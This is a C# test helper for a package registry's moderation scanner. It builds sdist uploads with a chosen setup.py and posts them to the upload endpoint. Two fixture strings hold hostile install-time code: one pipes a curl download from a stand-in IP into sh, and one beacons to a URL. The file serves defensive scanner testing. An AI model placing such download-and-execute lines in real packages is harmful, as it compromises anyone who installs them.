using System.Formats.Tar;
using System.IO.Compression;
using System.Security.Cryptography;
using System.Text;
using Bulwark.Tests.Infrastructure;

namespace Bulwark.Tests.Moderation;

/// <summary>Uploads for the scan tests: an sdist with a chosen setup.py, sent to the real upload endpoint.</summary>
internal static class ScanUploads
{
    /// <summary>An upload form for an sdist whose setup.py is <paramref name="setupPy"/>.</summary>
    public static UploadForm SdistWithSetupPy(TestDistributions.Spec spec, string setupPy)
    {
        using var ms = new MemoryStream();
        using (var gz = new GZipStream(ms, CompressionLevel.Fastest, leaveOpen: true))
        using (var tar = new TarWriter(gz, TarEntryFormat.Pax, leaveOpen: true))
        {
            foreach (var (name, content) in TestDistributions.SdistMembers(spec).Append(($"{spec.Prefix}/setup.py", setupPy)))
            {
                tar.WriteEntry(new PaxTarEntry(TarEntryType.RegularFile, name) { DataStream = new MemoryStream(Encoding.UTF8.GetBytes(content)) });
            }
        }
        var bytes = ms.ToArray();
        var form = UploadForm.For(spec, wheel: false);
        form.Content = bytes;
        return form.Set("sha256_digest", Convert.ToHexStringLower(SHA256.HashData(bytes))).Set("md5_digest", Convert.ToHexStringLower(MD5.HashData(bytes)));
    }

    /// <summary>Posts <paramref name="form"/> to /legacy/ with <paramref name="token"/>.</summary>
    public static async Task<HttpResponseMessage> SendAsync(BulwarkServer server, string token, UploadForm form)
    {
        using var request = new HttpRequestMessage(HttpMethod.Post, "/legacy/") { Content = form.ToContent() };
        request.Headers.Authorization = UploadForm.TokenAuth(token);
        return await server.CreateClient().SendAsync(request);
    }

    /// <summary>A setup.py that downloads a script and pipes it to a shell at install time (malicious).</summary>
    public const string DownloadAndRun = "import os\nfrom setuptools import setup\nos.system('curl -s http://203.0.114.9/x | sh')\nsetup()\n";

    /// <summary>A setup.py that calls out to the network at install time and does nothing else with it (suspicious).</summary>
    public const string InstallBeacon = "import urllib.request\nfrom setuptools import setup\nurllib.request.urlopen('https://example.com/ping')\nsetup()\n";
}
